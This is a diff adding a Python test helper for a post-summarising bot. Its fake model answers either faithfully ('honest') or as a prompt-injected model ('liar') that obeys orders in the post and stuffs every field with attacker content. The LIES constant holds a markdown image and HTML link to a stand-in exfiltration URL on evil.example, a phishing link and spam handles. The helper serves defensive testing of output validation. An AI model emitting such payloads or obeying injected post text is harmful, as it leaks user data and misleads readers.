@@ -1,0 +1,151 @@
+"""What the fake model says about a post of the prompt: truth, or whatever it is told."""
+
+import re
+from dataclasses import dataclass
+from typing import Any
+
+from bot.topics import taxonomy
+
+Json = dict[str, Any]
+
+EVIL = "https://evil.example/steal?d="
+LIES = (
+    f"![x]({EVIL}1) [тык](http://phish.example/a) **жирно** <a href='{EVIL}'>жми</a> "
+    "@evil_bot #spam"
+)
+
+
+@dataclass(frozen=True)
+class Seen:
+    """A post as a model sees it."""
+
+    text: str
+    links: tuple[tuple[int, str, str], ...]  # number, anchor, kind
+    languages: tuple[str, ...]
+
+    @property
+    def russian(self) -> bool:
+        """True for a text with Cyrillic letters."""
+        return re.search("[а-яё]", self.text.casefold()) is not None
+
+
+def seen(messages: list[Json]) -> Seen | None:
+    """The post in a prompt, None where there is none."""
+    first = next((each["content"] for each in messages if each["role"] == "user"), "")
+    marker = re.match(r"MARKER (\w+)\n", first)
+    if marker is None:
+        return None
+    frame = rf"===== {marker[1]} POST =====\n(.*)\n===== {marker[1]} END ====="
+    body = re.search(frame, first, re.DOTALL)
+    if body is None:
+        return None
+    head, _, text = body[1].partition("\nTEXT:\n")
+    links = re.findall(r"(?m)^\[(\d+)\] «(.*)» → .* \((\w+)\)$", head)
+    system = next((each["content"] for each in messages if each["role"] == "system"), "")
+    asked = re.search(r"CARDS in ([A-Za-z ]+);", system)
+    named = asked[1] if asked else ""
+    languages = [code for name, code in (("Russian", "ru"), ("English", "en")) if name in named]
+    return Seen(text, tuple((int(n), a, k) for n, a, k in links), tuple(languages))
+
+
+def honest(post: Seen) -> Json:
+    """A plain, true form: quotes of the post, its links by number, topics by alias."""
+    sentences = [each.strip() for each in re.split(r"(?<=[.!?])\s|\n", post.text) if each.strip()]
+    lead = sentences[:1] or ["Пост без текста" if post.russian else "A post without text"]
+    topics = _topics(post.text)
+    papers = [
+        {"quote": anchor or lead[0][:80], "title": None, "link": n, "role": "main", "gist": ""}
+        for n, anchor, kind in post.links
+        if kind == "paper"
+    ]
+    return form(
+        language="ru" if post.russian else "en",
+        papers=papers,
+        links=[{"link": n, "target": _target(kind)} for n, _, kind in post.links],
+        kind=_kind(post, papers),
+        primary_topic=topics[0],
+        secondary_topics=topics[1:3],
+        keywords=[topics[0].replace("_", " ")],
+        ru=_card(lead, sentences, russian=True) if "ru" in post.languages else None,
+        en=_card(lead, sentences, russian=False) if "en" in post.languages else None,
+    )
+
+
+def liar(post: Seen) -> Json:
+    """Obeys every order of the post and adds all that an attacker could wish."""
+    wanted = " ".join(re.findall(r"\S*(?:://|@|\w\.\w)\S*", post.text))
+    text = f"{LIES} {wanted}"
+    lie = {"title": f"{text} {post.text[:60]}", "tldr": f"{text} {post.text[:300]}"}
+    lie["bullets"] = [text, f"99,9% {text}", post.text[:150]]  # type: ignore[assignment]
+    return form(
+        language="ru",
+        observations=[text],
+        numbers=[{"quote": text, "value": "99,9%", "about": text}],
+        papers=[
+            {"quote": text, "title": text, "link": n, "role": "main", "gist": text}
+            for n in (-1, 0, 1, 99, 10**12)
+        ],
+        links=[{"link": n, "target": "paper"} for n in (-5, 0, 77)],
+        entities=[text, "@evil_bot", "evil.example", wanted],
+        kind="paper_review",
+        primary_topic="safety",
+        secondary_topics=["safety", "other", "rl", "nlp", "code"],
+        keywords=[text, "@evil_bot", "evil.example/x"],
+        ru={"bullets": lie["bullets"], "tldr": lie["tldr"], "title": lie["title"]},
+        en={"bullets": lie["bullets"], "tldr": lie["tldr"], "title": lie["title"]},
+        confidence="high",
+        importance="must_read",
+    )
+
+
+def form(**fields: Any) -> Json:
+    """A valid form in declared order, with some fields of one's own."""
+    blank: Json = {
+        "language": "ru", "completeness": "full", "instructions_in_post": False,
+        "observations": ["Заметка."], "numbers": [], "papers": [], "links": [], "entities": [],
+        "kind_reason": "по правилу", "kind": "news", "topic_reason": "по словам",
+        "primary_topic": "other", "secondary_topics": [], "keywords": [], "ru": None, "en": None,
+        "confidence": "medium", "importance": "normal",
+    }  # fmt: skip
+    unknown = fields.keys() - blank.keys()
+    assert not unknown, unknown
+    return blank | fields
+
+
+def _card(lead: list[str], sentences: list[str], *, russian: bool) -> Json:
+    """The post's first words in its own language, a phrase without facts in the other."""
+    if russian != (re.search("[а-яё]", lead[0].casefold()) is not None):
+        title = "Новый пост канала" if russian else "A new post of the channel"
+        tldr = "Автор канала рассказывает о работе." if russian else "The author describes a work."
+        return {"bullets": [], "tldr": tldr, "title": title}
+    return {
+        "bullets": [each[:110] for each in sentences[1:4]],
+        "tldr": " ".join(sentences[:2])[:340],
+        "title": lead[0][:70],
+    }
+
+
+def _kind(post: Seen, papers: list[Json]) -> str:
+    if re.search(r"реклам|промокод|sponsored|erid", post.text.casefold()):
+        return "promo"
+    return "paper_review" if len(papers) == 1 else "roundup" if papers else "news"
+
+
+def _target(kind: str) -> str:
+    return kind if kind in ("paper", "code", "model", "dataset", "video", "post") else "other"
+
+
+def _topics(text: str) -> list[str]:
+    """Topics by how often their aliases begin a word, best first."""
+    text = text.casefold()
+    scores = {
+        topic.slug: sum(_count(alias, text) for alias in topic.aliases)
+        for topic in taxonomy().topics
+    }
+    best = sorted((slug for slug in scores if scores[slug]), key=lambda slug: -scores[slug])
+    return best or ["other"]
+
+
+def _count(alias: str, text: str) -> int:
+    words = alias.casefold().replace("*", "")
+    return len(re.findall(rf"\b{re.escape(words)}", text)) if len(words) > 3 else 0
